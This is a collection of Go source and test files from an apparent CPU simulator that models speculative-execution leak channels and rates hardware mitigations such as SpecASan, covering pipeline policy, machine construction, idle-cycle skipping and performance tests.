		rm := uint64(0)
		if !in.HasImm {
			rm, _ = c.readSource2(e, in.Rm)
		}
		if mte.Key(isa.EffAddr(in, rn, rm)) != 0 {
			return true, "policy_block_delay_all"
		}
	}

	// Delay-on-Miss (descriptor bit, no enum case anywhere): a speculative
	// load whose line is not already present in the L1D — nor, under the
	// default lfb_hit_ok knob, in flight in the LFB — is held until
	// speculation resolves. Hits proceed, so only accesses that would
	// change observable fill state pay; the probe itself is side-effect
	// free (no ports, no LRU, no fills).
	if c.domOn && e.isLoad && c.speculative(e) {
		rn, _ := c.readSource2(e, in.Rn)
		rm := uint64(0)
		if !in.HasImm {
			rm, _ = c.readSource2(e, in.Rm)
		}
		c.enterShared()
		if !c.hier.Probe(c.ID, isa.EffAddr(in, rn, rm), c.cycle, c.domLFBHit) {
			return true, "policy_block_dom"
		}
	}
	return false, ""
}

// onUnsafeAccess reacts to an SSA=0 signal: the ROB holds the unsafe access
// and, per §3.4 step ⑧, marks dependent memory instructions unsafe in the
// LQ/SQ via the TSH. Dependents stall naturally (the load returned no data);
// the explicit marking feeds the restriction metrics and the TSH state.
func (c *Core) onUnsafeAccess(e *robEntry) {
	e.policyDelayed = true
	if e.unsafeSince == 0 {
		// First delay of this access (re-entry via forward-denied retries
		// keeps the original start cycle).
		e.unsafeSince = c.cycle
		c.obsRecord(e.seq, e.pc, obs.EvTagDelayStart, 0)
	}
	c.Stats.Inc("unsafe_accesses")
	for s := e.seq + 1; s < c.nextSeq; s++ {
		d := &c.rob[s&c.robMask]
		if !d.valid {
			continue
		}
		for _, src := range d.srcs {
			if src.producer == e.seq {
				d.policyDelayed = true
				if d.isLoad || d.isStore {
					c.tsh.MarkUnsafe(d.seq)
				}
				break
			}
		}
	}
}

// recordEvent files a candidate leak event for the oracle; it becomes a real
// leak only if the instruction turns out to be transient (squashed).
func (c *Core) recordEvent(e *robEntry, ch core.LeakChannel) {
	if !c.oracle.HasSecrets() {
		return
	}
	if c.candidates == nil {
		c.candidates = make(map[uint64][]core.LeakEvent)
	}
	c.candidates[e.seq] = append(c.candidates[e.seq], core.LeakEvent{
		Channel: ch, Cycle: c.cycle, Seq: e.seq, PC: e.pc, Addr: mte.Strip(e.addr),
	})
}

// recordContention files contention-channel candidates for a non-memory
// instruction executing on secret data during transient execution. Only
// multi-cycle units are measurable channels (SMoTHERSpectre /
// SpectreRewind / Speculative Interference); a single-cycle ALU op among
// four ports is below the noise floor, so plain ALU ops are not counted —
// otherwise every USE-stage shift would register as a leak and no
// delay-the-transmit defence could ever be rated effective.
func (c *Core) recordContention(e *robEntry) {
	if e.inst.Classify() == isa.ClassMulDiv {
		c.recordEvent(e, core.ChanPort)
	}
}

// promoteCandidates turns a squashed instruction's candidate events into
// recorded leaks: the state change survived while the instruction did not.
func (c *Core) promoteCandidates(seq uint64) {
	if c.candidates == nil {
		return
	}
	for _, ev := range c.candidates[seq] {
		c.enterShared()
		c.oracle.Record(ev)
	}
	delete(c.candidates, seq)
}

// dropCandidates discards candidates for a committed instruction: a
// committed secret-dependent access is the program's own architectural
// behaviour, not a transient leak.
func (c *Core) dropCandidates(seq uint64) {
	if c.candidates != nil {
		delete(c.candidates, seq)
	}
}
