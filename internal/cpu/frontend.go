package cpu

import (
	"specasan/internal/asm"
	"specasan/internal/isa"
	"specasan/internal/mem"
)

// Frontend is the instruction-stream source a machine executes: the fetch
// stage pulls decoded instructions from it, and machine construction asks it
// to initialise the static memory image (data blocks, tag seeds). It
// abstracts where the stream comes from — a freshly assembled program
// (AssembledFrontend), or a recorded trace replayed from the content-
// addressed store (internal/trace.TraceFrontend).
//
// The contract mirrors *asm.Program exactly so the live-decode path stays
// bit-identical: InstAt returns nil for non-code addresses (the fetch stage
// treats that as falling off the text), InstsFrom returns the straight-line
// run to the end of the enclosing code region, and EntryPC is where core 0
// starts. Implementations must be safe for concurrent readers: multi-core
// machines fetch from all cores, and the parallel-stepping mode does so from
// one goroutine per core. Returned *isa.Inst values are aliases into the
// frontend's storage and must not be mutated.
//
// internal/golden declares a structurally identical Source interface; any
// concrete frontend satisfies both, so one artifact can drive the
// cycle-accurate machine and the functional interpreter alike.
type Frontend interface {
	// EntryPC is the architectural start address.
	EntryPC() uint64
	// InstAt returns the instruction at pc, or nil when pc is not code.
	InstAt(pc uint64) *isa.Inst
	// InstsFrom returns the contiguous instruction run starting at pc
	// through the end of its code region, or nil when pc is not code.
	InstsFrom(pc uint64) []isa.Inst
	// InitImage installs the frontend's static data (data blocks; code
	// stays in the frontend) into a fresh memory image.
	InitImage(img *mem.Image)
}

// AssembledFrontend is the live-decode frontend: instructions come straight
// from an assembled program, exactly as every machine fetched before the
// seam existed.
type AssembledFrontend struct {
	Prog *asm.Program
}

// EntryPC implements Frontend.
func (f AssembledFrontend) EntryPC() uint64 { return f.Prog.Entry }

// InstAt implements Frontend.
func (f AssembledFrontend) InstAt(pc uint64) *isa.Inst { return f.Prog.InstAt(pc) }

// InstsFrom implements Frontend.
func (f AssembledFrontend) InstsFrom(pc uint64) []isa.Inst { return f.Prog.InstsFrom(pc) }

// InitImage implements Frontend: data blocks load into the image; code is
// fetched from the program structure directly.
func (f AssembledFrontend) InitImage(img *mem.Image) { img.LoadProgram(f.Prog) }
