package cpu

import (
	"testing"

	"specasan/internal/core"
	"specasan/internal/obs"
	"specasan/internal/workloads"
)

// perfMachine builds the standard perf-measurement machine: 508.namd_r at
// scale 10 (long enough that warmup reaches steady state), default config,
// no mitigation. cmd/specasan-bench -perf uses the same recipe, so the
// microbench here and BENCH_sim.json measure the same hot loop.
func perfMachine(tb testing.TB) *Machine {
	tb.Helper()
	spec := workloads.ByName("508.namd_r")
	if spec == nil {
		tb.Fatal("workload 508.namd_r missing")
	}
	prog, err := spec.Build(false, 10)
	if err != nil {
		tb.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = spec.Threads
	m, err := NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		tb.Fatal(err)
	}
	return m
}

// TestMachineStepAllocs guards the steady-state allocation elimination: once
// the pipeline is warm, Machine.Step must not allocate. The small tolerance
// absorbs rare amortised growth (stats map resize, predictor tables) without
// letting per-instruction allocations back in.
func TestMachineStepAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	m := perfMachine(t)
	for i := 0; i < 2000 && !m.Done(); i++ {
		m.Step()
	}
	if m.Done() {
		t.Fatal("machine halted during warmup; enlarge the workload scale")
	}
	allocs := testing.AllocsPerRun(2000, func() {
		if !m.Done() {
			m.Step()
		}
	})
	if allocs > 0.01 {
		t.Errorf("Machine.Step allocates %.3f objects/step in steady state, want ~0", allocs)
	}
}

// TestMachineStepAllocsTraced is the tracing-on variant: with a tracer and
// metrics bundle attached, recording is ring stores and histogram increments,
// so steady-state Step must still not allocate.
func TestMachineStepAllocsTraced(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	m := perfMachine(t)
	m.AttachObs(obs.NewTracer(len(m.Cores), 0), obs.NewMetrics(len(m.Cores)))
	for i := 0; i < 2000 && !m.Done(); i++ {
		m.Step()
	}
	if m.Done() {
		t.Fatal("machine halted during warmup; enlarge the workload scale")
	}
	allocs := testing.AllocsPerRun(2000, func() {
		if !m.Done() {
			m.Step()
		}
	})
	if allocs > 0.01 {
		t.Errorf("traced Machine.Step allocates %.3f objects/step in steady state, want ~0", allocs)
	}
}

// BenchmarkMachineStep measures host ns per simulated cycle in steady state —
// the single-core throughput number BENCH_sim.json tracks.
func BenchmarkMachineStep(b *testing.B) {
	m := perfMachine(b)
	for i := 0; i < 2000 && !m.Done(); i++ {
		m.Step()
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if m.Done() {
			b.StopTimer()
			m = perfMachine(b)
			for j := 0; j < 2000 && !m.Done(); j++ {
				m.Step()
			}
			b.StartTimer()
		}
		m.Step()
	}
}
