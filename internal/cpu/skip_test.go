package cpu

import (
	"fmt"
	"strings"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/workloads"
)

// skipFingerprint runs prog under mit with skipping on or off and flattens
// everything observable: cycle count, commits, run flags, the full counter
// set, architectural registers, and program output.
func skipFingerprint(t *testing.T, prog *asm.Program, mit core.Mitigation, skip bool) string {
	t.Helper()
	m, err := NewMachine(core.DefaultConfig(), mit, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.SkipIdle = skip
	res := m.Run(300_000)
	var b strings.Builder
	fmt.Fprintf(&b, "cycles=%d committed=%d timedOut=%v faulted=%v exit=%d\n",
		res.Cycles, res.Committed, res.TimedOut, res.Faulted, m.Core(0).ExitCode)
	fmt.Fprintf(&b, "stats=%s\n", res.Stats)
	fmt.Fprintf(&b, "regs=%v flags=%v output=%q\n",
		m.Core(0).cRegs, m.Core(0).cFlags, m.Core(0).Output)
	return b.String()
}

// TestSkipIdleExactness drives pipelines through their distinct wait states
// — DRAM fills, tag-check delays under every mitigation, unresolved-branch
// fetch stalls, store-queue backpressure — and requires the skipping run to
// be indistinguishable from the cycle-by-cycle one, timeouts included.
func TestSkipIdleExactness(t *testing.T) {
	progs := map[string]string{
		"dram-stalls": `
_start:
    ADR X1, buf
    MOV X3, #0
    MOV X4, #16
loop:
    LDR X2, [X1]       // cold miss every line: long idle windows
    ADD X1, X1, #64
    ADD X3, X3, #1
    CMP X3, X4
    B.NE loop
    DC CIVAC, X1
    DSB
    SVC #0
    .org 0x40000
buf:
    .space 2048
`,
		"branchy": `
_start:
    MOV X3, #0
    MOV X4, #200
loop:
    AND X5, X3, #3
    CBZ X5, skip1
    ADD X6, X6, X5
skip1:
    ADD X3, X3, #1
    CMP X3, X4
    B.NE loop
    SVC #0
`,
		"store-pressure": `
_start:
    ADR X1, buf
    MOV X3, #0
    MOV X4, #64
loop:
    STR X3, [X1]
    ADD X1, X1, #8
    ADD X3, X3, #1
    CMP X3, X4
    B.NE loop
    SVC #0
    .org 0x40000
buf:
    .space 1024
`,
		"tagged-loads": `
_start:
    ADR X1, buf
    IRG X1, X1
    STG X1, [X1]
    STR X1, [X1]
    LDR X2, [X1]
    SVC #0
    .org 0x40000
buf:
    .space 64
`,
		"timeout": `
_start:
    B _start
`,
	}
	mits := []core.Mitigation{core.Unsafe, core.Fence, core.STT,
		core.GhostMinion, core.SpecCFI, core.SpecASan}
	for name, src := range progs {
		prog := asm.MustAssemble(src)
		for _, mit := range mits {
			on := skipFingerprint(t, prog, mit, true)
			off := skipFingerprint(t, prog, mit, false)
			if on != off {
				t.Errorf("%s under %v diverges:\n-- skip on --\n%s-- skip off --\n%s",
					name, mit, on, off)
			}
		}
	}
}

// TestSkipIdleActuallySkips pins that the optimisation is live: on a
// memory-bound kernel the machine must cover its cycles in far fewer Step
// calls than cycles (i.e. the idle windows between DRAM fills are jumped).
func TestSkipIdleActuallySkips(t *testing.T) {
	spec := workloads.ByName("505.mcf_r")
	if spec == nil {
		t.Fatal("workload 505.mcf_r missing")
	}
	prog, err := spec.Build(false, 0.05)
	if err != nil {
		t.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = spec.Threads
	m, err := NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	var steps uint64
	for !m.Done() && m.Cycle() < 2_000_000 {
		m.Step()
		steps++
	}
	if m.Cycle() < steps*3/2 {
		t.Errorf("skip inactive: %d steps covered only %d cycles", steps, m.Cycle())
	}
}
