package cpu

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/branch"
	"specasan/internal/cache"
	"specasan/internal/core"
	"specasan/internal/isa"
	"specasan/internal/mem"
	"specasan/internal/mte"
	"specasan/internal/obs"
	"specasan/internal/stats"
)

// commitStore performs a store's architectural write and timing access at
// commit, and runs the write-to-full-address comparison that squashes
// Fallout-style false forwards.
func (c *Core) commitStore(e *robEntry) {
	c.enterShared() // every arm touches the hierarchy, image, or tag sidecar
	in := e.inst
	switch in.Op {
	case isa.STR, isa.STRB:
		c.hier.Access(cache.AccessReq{
			Core: c.ID, Ptr: e.addr, Size: in.MemBytes(), Write: true, Now: c.cycle,
		})
		c.img.WriteUint(mte.Strip(e.addr), e.storeData, in.MemBytes())
		bump(&c.nStoresCommitted, c.Stats, "stores_committed")
		// WTF closing edge: younger loads that took the partial-match
		// forward from this store re-execute via squash. The store's
		// fallout-consumer list (filled at forward time) makes this
		// O(forwards); registrations whose load was squashed or whose slot
		// was reused no longer satisfy the predicate and drop out, and the
		// oldest live violator wins, exactly as the old loadQ sweep did.
		var oldest *robEntry
		for _, s := range e.falloutFwds {
			if s <= e.seq {
				continue
			}
			l := c.entry(s)
			if l != nil && l.falloutForward && l.forwardedFrom == e.seq &&
				(oldest == nil || l.seq < oldest.seq) {
				oldest = l
			}
		}
		if oldest != nil {
			c.Stats.Inc("fallout_replays")
			c.squashAfter(oldest.seq-1, oldest.pc)
			return
		}
	case isa.STG:
		c.img.Tags.SetLock(e.addr, mte.Key(e.storeData))
		c.Stats.Inc("tag_stores")
	case isa.ST2G:
		t := mte.Key(e.storeData)
		c.img.Tags.SetLock(e.addr, t)
		c.img.Tags.SetLock(mte.AlignGranule(e.addr)+mte.GranuleBytes, t)
		c.Stats.Inc("tag_stores")
	case isa.SWPAL:
		// performed at execute (head-of-ROB); nothing to do
	}
}

// TagSeedBase seeds IRG's deterministic tag choice on core 0; core i uses
// TagSeedBase+i. The golden interpreter must use the same seed for
// differential runs.
const TagSeedBase = 0x5eca5a

// Machine is a full simulated system: cores, shared memory hierarchy, the
// leak oracle, and run control.
type Machine struct {
	Cfg    core.Config
	Mit    core.Mitigation
	Img    *mem.Image
	Hier   *cache.Hierarchy
	Cores  []*Core
	Oracle *core.Oracle

	// PerCycle, when set, runs after every Step — the chaos injector's
	// per-cycle driver hook.
	PerCycle func(cycle uint64)

	// Watchdog guards Run against wedged pipelines; nil disables it.
	// NewMachine installs one with default thresholds.
	Watchdog *Watchdog

	// SkipIdle enables event-driven idle-cycle skipping (see skip.go). It is
	// exactness-preserving — cycle counts, stats, traces and architectural
	// state match a non-skipping run — and on by default; runs that must see
	// every cycle (a PerCycle hook, i.e. chaos injection) bypass it
	// automatically.
	SkipIdle bool

	// ParallelCores selects the intra-machine stepping mode for Run (see
	// gate.go): 0 = auto (one goroutine per core when the machine has more
	// than one core and GOMAXPROCS > 1), 1 = force the serial walk, >= 2 =
	// force parallel stepping even on a single-threaded GOMAXPROCS. Both
	// modes are bit-identical; the knob only trades wall-clock for
	// goroutine-handoff overhead. Bare Step calls always walk serially.
	ParallelCores int

	// crew is the per-core worker pool, non-nil only inside a parallel run.
	crew *coreCrew

	cycle uint64
	// skipLimit caps skips at Run's cycle budget so timed-out runs end on
	// the same cycle either way. Zero means no budget (bare Step callers).
	skipLimit uint64
}

// NewMachine builds a machine running prog on every core. For multi-core
// runs all cores share the program (SPMD) and the memory image; per-core
// behaviour is steered through registers set with Core.SetReg.
func NewMachine(cfg core.Config, mit core.Mitigation, prog *asm.Program) (*Machine, error) {
	return NewMachineFrontend(cfg, mit, AssembledFrontend{Prog: prog})
}

// NewMachineFrontend builds a machine fetching from an arbitrary instruction
// source — the seam behind NewMachine. All cores share the frontend (SPMD)
// and the memory image it initialises.
func NewMachineFrontend(cfg core.Config, mit core.Mitigation, fe Frontend) (*Machine, error) {
	img := mem.NewImage()
	fe.InitImage(img)
	return newMachineOn(cfg, mit, fe, img)
}

// newMachineOn builds a machine over a caller-supplied memory image (already
// loaded; the machine takes ownership). The state-transplant constructor
// NewMachineAt enters here with a golden-interpreter memory snapshot instead
// of a freshly loaded program image.
func newMachineOn(cfg core.Config, mit core.Mitigation, fe Frontend, img *mem.Image) (*Machine, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	pol := mit.Descriptor()
	oracle := core.NewOracle()
	hier, err := cache.NewHierarchy(cache.HierConfig{
		Cores:     cfg.Cores,
		L1ISizeKB: cfg.L1ISizeKB, L1IWays: cfg.L1IWays, L1ILatency: cfg.L1ILatency,
		L1DSizeKB: cfg.L1DSizeKB, L1DWays: cfg.L1DWays, L1DLatency: cfg.L1DLatency,
		L2SizeKB: cfg.L2SizeKB, L2Ways: cfg.L2Ways, L2Latency: cfg.L2Latency,
		LineBytes: cfg.LineBytes, LFBEntries: cfg.LFBEntries, MSHRs: cfg.MSHRs,
		GhostSize: cfg.GhostSize, LoadPorts: cfg.LoadPorts,
		DRAM:            mem.DRAMConfig{Latency: cfg.DRAMLatency, BurstCycles: cfg.DRAMBurst, TagBurst: cfg.TagBurst},
		MTEOn:           pol.MTE,
		LFBTagging:      pol.SpecTagChecks && cfg.LFBTagging,
		PrefetcherOn:    cfg.PrefetcherOn,
		PrefetchChecked: cfg.PrefetchChecked && pol.SpecTagChecks,
	}, img)
	if err != nil {
		return nil, err
	}

	// Prefetches of secret-holding lines are observable state changes the
	// attacker can induce — the §6 prefetcher channel.
	hier.PrefetchSecretHit = func(lineAddr uint64) {
		if oracle.HasSecrets() && oracle.IsSecret(lineAddr, cfg.LineBytes) {
			oracle.Record(core.LeakEvent{Channel: core.ChanCache, Addr: lineAddr})
		}
	}

	m := &Machine{Cfg: cfg, Mit: mit, Img: img, Hier: hier, Oracle: oracle, SkipIdle: true}
	for i := 0; i < cfg.Cores; i++ {
		c := NewCore(i, &m.Cfg, mit, fe, hier, img, oracle, TagSeedBase+uint64(i))
		pred, err := branch.New(branch.Config{
			PHTBits: cfg.PHTBits, BTBSize: cfg.BTBSize,
			RSBDepth: cfg.RSBDepth, BHBLen: cfg.BHBLen,
		})
		if err != nil {
			return nil, err
		}
		c.SetPredictor(pred)
		m.Cores = append(m.Cores, c)
	}
	m.Watchdog = NewWatchdog(cfg.Cores)
	return m, nil
}

// AttachObs wires an event tracer and/or a metrics bundle into every core
// and the shared hierarchy. A nil argument leaves that attachment unchanged,
// so a caller can attach tracing and metrics in separate calls. Both must
// have been built for this machine's core count.
func (m *Machine) AttachObs(tr *obs.Tracer, met *obs.Metrics) {
	for i, c := range m.Cores {
		if tr != nil {
			c.Obs = tr.Core(i)
		}
		if met != nil {
			c.Met = met.Core(i)
		}
	}
	if tr != nil {
		m.Hier.Obs = tr
	}
	if met != nil {
		m.Hier.Met = met
	}
}

// Core returns core i.
func (m *Machine) Core(i int) *Core { return m.Cores[i] }

// Done reports whether every core has halted or faulted.
func (m *Machine) Done() bool {
	for _, c := range m.Cores {
		if !c.Halted && !c.Faulted {
			return false
		}
	}
	return true
}

// Step advances the whole machine by one cycle, then — with SkipIdle on and
// no per-cycle hook — fast-forwards over cycles in which no core can make
// progress.
func (m *Machine) Step() {
	m.cycle++
	if m.crew != nil {
		m.crew.step()
	} else {
		for _, c := range m.Cores {
			c.Tick()
		}
	}
	if m.PerCycle != nil {
		m.PerCycle(m.cycle)
		return // the hook must observe every cycle: no skipping
	}
	if m.SkipIdle {
		m.skipIdle()
	}
}

// CoreStatus is one core's condition at the end of a run.
type CoreStatus struct {
	Halted    bool
	Faulted   bool
	FaultPC   uint64
	TimedOut  bool // still running when the cycle budget ran out
	Committed uint64
	// LastCommit is the cycle of the core's most recent commit (0 if it
	// never committed) — the stall diagnostic for timed-out cores.
	LastCommit uint64
}

// RunResult summarises a completed (or timed-out, or wedged) run.
type RunResult struct {
	Cycles    uint64
	Committed uint64 // total across cores
	TimedOut  bool
	Faulted   bool
	FaultCore int
	// CoreStatuses reports each core's end state, so a timeout names the
	// cores that were still running rather than just a machine-wide bool.
	CoreStatuses []CoreStatus
	// Err is set when the watchdog stopped the run: a commit-progress stall
	// or a broken ROB/LSQ invariant, with a pipeview snapshot attached.
	Err   *SimError
	Stats *stats.Set // merged core stats
}

// TimedOutCores lists the indices of cores that were still running at the
// end of a timed-out run.
func (r *RunResult) TimedOutCores() []int {
	var out []int
	for i := range r.CoreStatuses {
		if r.CoreStatuses[i].TimedOut {
			out = append(out, i)
		}
	}
	return out
}

// Run executes until every core halts or maxCycles elapse. A non-nil
// machine watchdog additionally stops the run when a core wedges (no commit
// progress) or breaks a pipeline invariant, reporting it in RunResult.Err.
func (m *Machine) Run(maxCycles uint64) *RunResult {
	return m.run(maxCycles, nil)
}

// RunUntilCommitted executes until the machine-wide committed-instruction
// count reaches target, every core halts, or maxCycles elapse — the
// instruction-bounded run the sampled-window harness uses to measure a
// fixed-length detailed window. The target is a floor, not an exact stop:
// a multi-issue commit stage can overshoot it by up to CommitWidth-1.
func (m *Machine) RunUntilCommitted(target, maxCycles uint64) *RunResult {
	return m.run(maxCycles, func() bool {
		var total uint64
		for _, c := range m.Cores {
			total += c.Committed()
		}
		return total >= target
	})
}

// run is the shared Run loop; stop, when non-nil, is an extra termination
// condition checked after every step.
func (m *Machine) run(maxCycles uint64, stop func() bool) *RunResult {
	var simErr *SimError
	var stopped bool
	m.skipLimit = maxCycles
	if m.parallelEligible() {
		m.crew = startCrew(m.Cores)
		defer func() {
			m.crew.shutdown()
			m.crew = nil
		}()
	}
	for m.cycle < maxCycles && !m.Done() {
		if stop != nil && stop() {
			stopped = true
			break
		}
		m.Step()
		if m.Watchdog != nil {
			if simErr = m.Watchdog.Check(m); simErr != nil {
				break
			}
		}
	}
	res := &RunResult{Cycles: m.cycle, TimedOut: !m.Done() && !stopped, FaultCore: -1, Err: simErr}
	if simErr != nil {
		res.TimedOut = false // the watchdog verdict supersedes the budget
	}
	res.Stats = stats.NewSet("machine")
	for i, c := range m.Cores {
		res.Committed += c.Committed()
		res.Stats.Merge(c.Stats)
		res.CoreStatuses = append(res.CoreStatuses, CoreStatus{
			Halted:     c.Halted,
			Faulted:    c.Faulted,
			FaultPC:    c.FaultPC,
			TimedOut:   res.TimedOut && !c.Halted && !c.Faulted,
			Committed:  c.Committed(),
			LastCommit: c.lastCommitCycle,
		})
		if c.Faulted {
			res.Faulted = true
			if res.FaultCore < 0 {
				res.FaultCore = i
			}
		}
	}
	return res
}

// Cycle returns the global cycle count.
func (m *Machine) Cycle() uint64 { return m.cycle }

// IPC returns committed instructions per cycle across the machine.
func (r *RunResult) IPC() float64 {
	if r.Cycles == 0 {
		return 0
	}
	return float64(r.Committed) / float64(r.Cycles)
}

// String summarises the run.
func (r *RunResult) String() string {
	s := fmt.Sprintf("run{cycles=%d committed=%d ipc=%.2f timedOut=%v faulted=%v",
		r.Cycles, r.Committed, r.IPC(), r.TimedOut, r.Faulted)
	if cores := r.TimedOutCores(); len(cores) > 0 {
		s += fmt.Sprintf(" timedOutCores=%v", cores)
	}
	if r.Err != nil {
		s += fmt.Sprintf(" simError=%s", r.Err.Kind)
	}
	return s + "}"
}
