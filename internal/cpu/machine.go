package cpu

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/branch"
	"specasan/internal/cache"
	"specasan/internal/core"
	"specasan/internal/isa"
	"specasan/internal/mem"
	"specasan/internal/mte"
	"specasan/internal/stats"
)

// commitStore performs a store's architectural write and timing access at
// commit, and runs the write-to-full-address comparison that squashes
// Fallout-style false forwards.
func (c *Core) commitStore(e *robEntry) {
	in := e.inst
	switch in.Op {
	case isa.STR, isa.STRB:
		c.hier.Access(cache.AccessReq{
			Core: c.ID, Ptr: e.addr, Size: in.MemBytes(), Write: true, Now: c.cycle,
		})
		c.img.WriteUint(mte.Strip(e.addr), e.storeData, in.MemBytes())
		c.Stats.Inc("stores_committed")
		// WTF closing edge: younger loads that took the partial-match
		// forward from this store re-execute via squash.
		for s := e.seq + 1; s < c.nextSeq; s++ {
			l := &c.rob[s%uint64(len(c.rob))]
			if l.valid && l.falloutForward && l.forwardedFrom == e.seq {
				c.Stats.Inc("fallout_replays")
				c.squashAfter(l.seq-1, l.pc)
				return
			}
		}
	case isa.STG:
		c.img.Tags.SetLock(e.addr, mte.Key(e.storeData))
		c.Stats.Inc("tag_stores")
	case isa.ST2G:
		t := mte.Key(e.storeData)
		c.img.Tags.SetLock(e.addr, t)
		c.img.Tags.SetLock(mte.AlignGranule(e.addr)+mte.GranuleBytes, t)
		c.Stats.Inc("tag_stores")
	case isa.SWPAL:
		// performed at execute (head-of-ROB); nothing to do
	}
}

// TagSeedBase seeds IRG's deterministic tag choice on core 0; core i uses
// TagSeedBase+i. The golden interpreter must use the same seed for
// differential runs.
const TagSeedBase = 0x5eca5a

// Machine is a full simulated system: cores, shared memory hierarchy, the
// leak oracle, and run control.
type Machine struct {
	Cfg    core.Config
	Mit    core.Mitigation
	Img    *mem.Image
	Hier   *cache.Hierarchy
	Cores  []*Core
	Oracle *core.Oracle

	cycle uint64
}

// NewMachine builds a machine running prog on every core. For multi-core
// runs all cores share the program (SPMD) and the memory image; per-core
// behaviour is steered through registers set with Core.SetReg.
func NewMachine(cfg core.Config, mit core.Mitigation, prog *asm.Program) (*Machine, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	img := mem.NewImage()
	img.LoadProgram(prog)
	oracle := core.NewOracle()
	hier := cache.NewHierarchy(cache.HierConfig{
		Cores:     cfg.Cores,
		L1ISizeKB: cfg.L1ISizeKB, L1IWays: cfg.L1IWays, L1ILatency: cfg.L1ILatency,
		L1DSizeKB: cfg.L1DSizeKB, L1DWays: cfg.L1DWays, L1DLatency: cfg.L1DLatency,
		L2SizeKB: cfg.L2SizeKB, L2Ways: cfg.L2Ways, L2Latency: cfg.L2Latency,
		LineBytes: cfg.LineBytes, LFBEntries: cfg.LFBEntries, MSHRs: cfg.MSHRs,
		GhostSize: cfg.GhostSize, LoadPorts: cfg.LoadPorts,
		DRAM:            mem.DRAMConfig{Latency: cfg.DRAMLatency, BurstCycles: cfg.DRAMBurst, TagBurst: cfg.TagBurst},
		MTEOn:           mit.MTEEnabled(),
		LFBTagging:      mit.SpecTagChecks() && cfg.LFBTagging,
		PrefetcherOn:    cfg.PrefetcherOn,
		PrefetchChecked: cfg.PrefetchChecked && mit.SpecTagChecks(),
	}, img)

	// Prefetches of secret-holding lines are observable state changes the
	// attacker can induce — the §6 prefetcher channel.
	hier.PrefetchSecretHit = func(lineAddr uint64) {
		if oracle.HasSecrets() && oracle.IsSecret(lineAddr, cfg.LineBytes) {
			oracle.Record(core.LeakEvent{Channel: core.ChanCache, Addr: lineAddr})
		}
	}

	m := &Machine{Cfg: cfg, Mit: mit, Img: img, Hier: hier, Oracle: oracle}
	for i := 0; i < cfg.Cores; i++ {
		c := NewCore(i, &m.Cfg, mit, prog, hier, img, oracle, TagSeedBase+uint64(i))
		c.SetPredictor(branch.New(branch.Config{
			PHTBits: cfg.PHTBits, BTBSize: cfg.BTBSize,
			RSBDepth: cfg.RSBDepth, BHBLen: cfg.BHBLen,
		}))
		m.Cores = append(m.Cores, c)
	}
	return m, nil
}

// Core returns core i.
func (m *Machine) Core(i int) *Core { return m.Cores[i] }

// Done reports whether every core has halted or faulted.
func (m *Machine) Done() bool {
	for _, c := range m.Cores {
		if !c.Halted && !c.Faulted {
			return false
		}
	}
	return true
}

// Step advances the whole machine by one cycle.
func (m *Machine) Step() {
	m.cycle++
	for _, c := range m.Cores {
		c.Tick()
	}
}

// RunResult summarises a completed (or timed-out) run.
type RunResult struct {
	Cycles    uint64
	Committed uint64 // total across cores
	TimedOut  bool
	Faulted   bool
	FaultCore int
	Stats     *stats.Set // merged core stats
}

// Run executes until every core halts or maxCycles elapse.
func (m *Machine) Run(maxCycles uint64) *RunResult {
	for m.cycle < maxCycles && !m.Done() {
		m.Step()
	}
	res := &RunResult{Cycles: m.cycle, TimedOut: !m.Done(), FaultCore: -1}
	res.Stats = stats.NewSet("machine")
	for i, c := range m.Cores {
		res.Committed += c.Committed()
		res.Stats.Merge(c.Stats)
		if c.Faulted {
			res.Faulted = true
			if res.FaultCore < 0 {
				res.FaultCore = i
			}
		}
	}
	return res
}

// Cycle returns the global cycle count.
func (m *Machine) Cycle() uint64 { return m.cycle }

// IPC returns committed instructions per cycle across the machine.
func (r *RunResult) IPC() float64 {
	if r.Cycles == 0 {
		return 0
	}
	return float64(r.Committed) / float64(r.Cycles)
}

// String summarises the run.
func (r *RunResult) String() string {
	return fmt.Sprintf("run{cycles=%d committed=%d ipc=%.2f timedOut=%v faulted=%v}",
		r.Cycles, r.Committed, r.IPC(), r.TimedOut, r.Faulted)
}
