package obs

import (
	"testing"
)

func TestCoreTraceBasics(t *testing.T) {
	tr := NewCoreTrace(3, 8)
	if tr.CoreID() != 3 {
		t.Fatalf("CoreID = %d", tr.CoreID())
	}
	for i := uint64(0); i < 5; i++ {
		tr.Record(100+i, i, 0x1000+4*i, EvIssue, 0)
	}
	if tr.Len() != 5 || tr.Recorded() != 5 || tr.Dropped() != 0 {
		t.Fatalf("Len=%d Recorded=%d Dropped=%d", tr.Len(), tr.Recorded(), tr.Dropped())
	}
	evs := tr.Events()
	if len(evs) != 5 {
		t.Fatalf("Events() = %d entries", len(evs))
	}
	for i, ev := range evs {
		if ev.Cycle != 100+uint64(i) || ev.Seq != uint64(i) || ev.Kind != EvIssue {
			t.Fatalf("event %d = %+v", i, ev)
		}
	}
}

// TestCoreTraceWraparound pins the ring contract: once full, the oldest
// events are overwritten and counted, and Events() returns the retained
// window oldest-first regardless of where the write cursor sits.
func TestCoreTraceWraparound(t *testing.T) {
	tr := NewCoreTrace(0, 4)
	for i := uint64(0); i < 10; i++ {
		tr.Record(i, i, 0, EvCommit, 0)
	}
	if tr.Len() != 4 || tr.Recorded() != 10 || tr.Dropped() != 6 {
		t.Fatalf("Len=%d Recorded=%d Dropped=%d", tr.Len(), tr.Recorded(), tr.Dropped())
	}
	evs := tr.Events()
	for i, want := range []uint64{6, 7, 8, 9} {
		if evs[i].Seq != want {
			t.Fatalf("Events() = %v, want seqs 6..9 oldest-first", evs)
		}
	}
	// Exactly-full (cursor at slot 0) is the boundary case: no drops yet.
	tr = NewCoreTrace(0, 4)
